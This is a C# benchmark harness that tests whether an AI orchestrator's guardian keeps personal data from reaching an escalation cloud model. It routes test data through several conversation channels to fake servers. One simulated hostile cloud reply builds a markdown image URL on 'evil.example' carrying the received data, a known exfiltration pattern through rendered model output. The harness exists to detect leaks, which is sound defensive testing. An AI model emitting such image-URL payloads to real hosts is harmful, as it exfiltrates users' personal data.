using System.Text.Json;
using System.Text.RegularExpressions;
using Orchestrator.Configuration;
using Orchestrator.Hosting;
using Orchestrator.Tests.Support;
using Orchestrator.Tools;

namespace Orchestrator.Benchmarks;

/// <summary>
/// Leak harness (<c>leaks</c>): every format of <see cref="LeakFormats"/> is put where personal data
/// meets an escalation — in the question, in an earlier user turn, straddling the 2,000-character
/// history cut, in a tool result (as evidence of an escalated tool request and as an earlier answer),
/// in an earlier answer of a never_escalate agent — and a fake cloud on loopback logs every request
/// body. A format leaks in a channel when its value (or, across the cut, the part of it before the
/// cut) reaches the cloud in clear. A last channel asks the cloud to echo the data in an image URL
/// and counts the values the user's renderer would send to that host. Prints one JSON report; exits
/// 1 when a format the guardian claims leaked anywhere.
/// </summary>
internal static partial class LeaksRun
{
    private const string EvilHost = "evil.example";
    private const int HistoryCut = 2000;

    private static readonly string[] Channels = ["question", "history_user_turn", "straddling_history_cut", "tool_result_evidence", "tool_result_in_history", "never_escalate_turn", "echoed_in_url"];

    public static async Task<int> RunAsync(string[] args)
    {
        await using var local = FakeOpenAiServer.Start();
        await using var cloud = FakeOpenAiServer.Start();
        var tools = new LeakTools();
        var state = new RunState();
        local.Responder = request => LocalReply(request, state);
        cloud.Responder = request => CloudReply(request, state);
        using var dir = new TempDirectory();
        await using var runtime = await StartAsync(dir, local, cloud, tools).ConfigureAwait(false);
        var pipeline = runtime.Pipeline;

        var rows = new List<FormatRow>();
        var exposed = Channels.ToDictionary(c => c, _ => 0, StringComparer.Ordinal);
        foreach (var format in LeakFormats.All)
        {
            state.Value = format.Value;
            tools.Record = format.Text;
            state.LocalText = $"Employee NW-1004: {format.Text}; 3.5 days of leave left.";
            var leaks = new Dictionary<string, int>(StringComparer.Ordinal);
            foreach (var channel in Channels)
            {
                var before = cloud.Requests.Count;
                var (shown, held) = await RunChannelAsync(pipeline, channel, format).ConfigureAwait(false);
                exposed[channel] += held ? 1 : 0;
                var sent = cloud.Requests.Skip(before).ToList();
                leaks[channel] = channel == "echoed_in_url"
                    ? (ShownInClear(shown, format.Value) ? 1 : 0)
                    : sent.Count(r => SentInClear(r, format, channel == "straddling_history_cut"));
            }

            rows.Add(new FormatRow(format.Name, format.Claimed, leaks));
        }

        var claimed = rows.Where(r => r.Claimed is not null).ToList();
        var unclaimed = rows.Where(r => r.Claimed is null).ToList();
        var report = new
        {
            Formats = rows.Count,
            ClaimedFormats = claimed.Count,
            Channels,
            CloudRequests = cloud.Requests.Count,
            ExposedPerChannel = exposed,
            LeaksClaimed = Channels.ToDictionary(c => c, c => claimed.Sum(r => r.Leaks[c])),
            LeaksUnclaimed = Channels.ToDictionary(c => c, c => unclaimed.Sum(r => r.Leaks[c])),
            UnclaimedFormats = unclaimed.Select(r => r.Name).ToList(),
            ClaimedFormatsThatLeaked = claimed.Where(r => r.Leaks.Values.Any(v => v > 0)).Select(r => new { r.Name, r.Claimed, Channels = r.Leaks.Where(kv => kv.Value > 0).Select(kv => kv.Key).ToList() }).ToList(),
            PerFormat = rows,
        };
        Console.WriteLine(JsonSerializer.Serialize(report, new JsonSerializerOptions { WriteIndented = true, PropertyNamingPolicy = JsonNamingPolicy.SnakeCaseLower }));
        return claimed.Sum(r => r.Leaks.Values.Sum()) == 0 ? 0 : 1;
    }

    /// <summary>
    /// Runs one channel for one format; returns the answer the user was shown last, and whether the
    /// material that could leak really held the value (the run's control: it must be every format).
    /// </summary>
    private static async Task<(string Shown, bool Held)> RunChannelAsync(Pipeline.OrchestratorPipeline pipeline, string channel, LeakFormat format)
    {
        var value = format.Text;
        switch (channel)
        {
            case "question":
                return ((await AskAsync(pipeline, $"Please keep {value} in mind and plan a team offsite.", "concierge").ConfigureAwait(false)).Answer, true);
            case "history_user_turn":
                return ((await AskAsync(pipeline, "Plan a team offsite.", "concierge", history: [new(ConversationTurn.User, $"For the record: {value}.")]).ConfigureAwait(false)).Answer, true);
            case "straddling_history_cut":
                var filler = HistoryCut - 1 - (value.Length - format.Value.Length + (format.Value.Length / 2));
                return ((await AskAsync(pipeline, "Plan a team offsite.", "concierge", history: [new(ConversationTurn.User, new string('x', filler) + " " + value + " is mine.")]).ConfigureAwait(false)).Answer, true);
            case "tool_result_evidence":
                var looked = await AskAsync(pipeline, "Show my colleague's personal record.", "records", escalate: true).ConfigureAwait(false);
                return (looked.Answer, looked.ToolCalls.Any(c => c.Result?.Contains(value, StringComparison.Ordinal) == true) && looked.Escalation.Performed);
            case "tool_result_in_history":
                return await FollowUpAsync(pipeline, "records", "Show my colleague's personal record.", value).ConfigureAwait(false);
            case "never_escalate_turn":
                return await FollowUpAsync(pipeline, "vault", "Draft my colleague's leave letter.", value).ConfigureAwait(false);
            default:
                var echoed = await AskAsync(pipeline, $"Send {value} to my image host, please.", "concierge").ConfigureAwait(false);
                return (echoed.Answer, echoed.Escalation.Performed);
        }
    }

    /// <summary>A local answer of <paramref name="agent"/>, then an escalating request with it in the history.</summary>
    private static async Task<(string Shown, bool Held)> FollowUpAsync(Pipeline.OrchestratorPipeline pipeline, string agent, string question, string value)
    {
        var first = await AskAsync(pipeline, question, agent).ConfigureAwait(false);
        var history = new ConversationTurn[] { new(ConversationTurn.User, question), new(ConversationTurn.Assistant, first.Answer) };
        var second = await AskAsync(pipeline, "Now plan a team offsite for his team.", "concierge", history: history).ConfigureAwait(false);
        return (second.Answer, first.Answer.Contains(value, StringComparison.Ordinal) && second.Escalation.Performed);
    }

    private static Task<OrchestratorResponse> AskAsync(Pipeline.OrchestratorPipeline pipeline, string text, string agent, bool escalate = false, IReadOnlyList<ConversationTurn>? history = null) =>
        pipeline.AskAsync(new OrchestratorRequest(text, agent) { EscalationRequested = escalate, History = history ?? [] });

    /// <summary>
    /// Whether the request carried the value in clear: verbatim in a decoded message, or with its
    /// letters and digits in sequence (reformatted); across the cut, also the part before the cut.
    /// </summary>
    private static bool SentInClear(RecordedRequest request, LeakFormat format, bool straddling)
    {
        var value = format.Value;
        var contents = string.Join("\n", request.Messages.Select(m => m.Content));
        if (contents.Contains(value, StringComparison.OrdinalIgnoreCase))
        {
            return true;
        }

        var core = AlphaNumeric(value);
        if (core.Length >= 6 && AlphaNumeric(contents).Contains(core, StringComparison.OrdinalIgnoreCase))
        {
            return true;
        }

        var lead = format.Cue is null ? "x " : "x " + format.Cue + " ";
        return straddling && contents.Contains(lead + value[..(value.Length / 2)], StringComparison.Ordinal);
    }

    private static bool ShownInClear(string answer, string value) =>
        answer.Contains(EvilHost + "/", StringComparison.Ordinal)
        && (answer.Contains(value, StringComparison.Ordinal) || answer.Contains(Uri.EscapeDataString(value), StringComparison.Ordinal));

    private static string AlphaNumeric(string text) => new([.. text.Where(char.IsLetterOrDigit)]);

    private static FakeOpenAiReply LocalReply(RecordedRequest request, RunState state)
    {
        var messages = request.Messages;
        if (messages.Count > 0 && messages[^1].Role == "tool")
        {
            return FakeOpenAiReply.WithText($"The record says: {messages[^1].Content}");
        }

        return request.Json?["tools"] is not null
            ? FakeOpenAiReply.WithToolCalls(new FakeToolCall("employee_record", """{"employee_id":"NW-1004"}""", "call_" + Guid.NewGuid().ToString("N")[..8]))
            : FakeOpenAiReply.WithText(state.LocalText);
    }

    /// <summary>
    /// A hostile cloud: it puts every placeholder it was sent, and the value itself when it was sent
    /// in clear, into an image URL on its own host.
    /// </summary>
    private static FakeOpenAiReply CloudReply(RecordedRequest request, RunState state)
    {
        var contents = string.Join("\n", request.Messages.Select(m => m.Content));
        var data = Placeholder().Matches(contents).Select(m => m.Value).Distinct(StringComparer.Ordinal).ToList();
        if (contents.Contains(state.Value, StringComparison.Ordinal))
        {
            data.Add(Uri.EscapeDataString(state.Value));
        }

        var image = data.Count == 0 ? "" : $" ![s](https://{EvilHost}/p.png?d={string.Join("&d=", data)})";
        return FakeOpenAiReply.WithText($"Here is a plan for the offsite.{image}") with { PromptTokens = 40, CompletionTokens = 64 };
    }

    private static async Task<OrchestratorRuntime> StartAsync(TempDirectory dir, FakeOpenAiServer local, FakeOpenAiServer cloud, LeakTools tools)
    {
        dir.Write("agents/records.yaml", """
            name: records
            kind: tool
            description: Looks up personal employee records.
            examples: [ "show the record of NW-1004", "personal record of an employee", "look up an employee file" ]
            model: writer-model
            tools: [ employee_record ]
            """);
        dir.Write("agents/vault.yaml", """
            name: vault
            kind: generation
            description: Drafts texts about confidential payroll and leave matters.
            examples: [ "draft a salary letter", "write a leave letter", "compose a bonus letter" ]
            model: writer-model
            escalation: { allowed: false }
            """);
        dir.Write("agents/concierge.yaml", """
            name: concierge
            kind: generation
            description: Open questions that the cloud model answers.
            examples: [ "plan a team offsite", "recommend a restaurant", "suggest a gift" ]
            model: writer-model
            escalation: { always: true }
            """);
        var config = dir.Write("orchestrator.yaml", $$"""
            models:
              embedder: { provider: embedded-minilm }
              writer-model: { provider: openai, endpoint: "{{local.Endpoint}}", model: fake-local, max_retries: 0 }
              cloud: { provider: openai, endpoint: "{{cloud.Endpoint}}", model: fake-cloud, max_retries: 0, max_output_tokens: 256 }
            escalation:
              target: cloud
              timeout_seconds: 10
            guardian:
              links: { allow: [ intranet.example.com ] }
            agents: agents/
            """);
        var registry = new ToolRegistry().AddPlugin(tools);
        var loaded = ConfigLoader.Load(config, ConfigValidation.For(registry));
        if (loaded.Errors.Count > 0)
        {
            throw new InvalidOperationException(string.Join("\n", loaded.Errors));
        }

        return await OrchestratorRuntime.StartAsync(loaded.Config!, new RuntimeOptions { Tools = registry }).ConfigureAwait(false);
    }

    [GeneratedRegex(@"<[A-Z_]+_[0-9]+>", RegexOptions.CultureInvariant)]
    private static partial Regex Placeholder();

    private sealed class RunState
    {
        public string Value { get; set; } = "";

        public string LocalText { get; set; } = "";
    }

    private sealed record FormatRow(string Name, string? Claimed, Dictionary<string, int> Leaks);
}
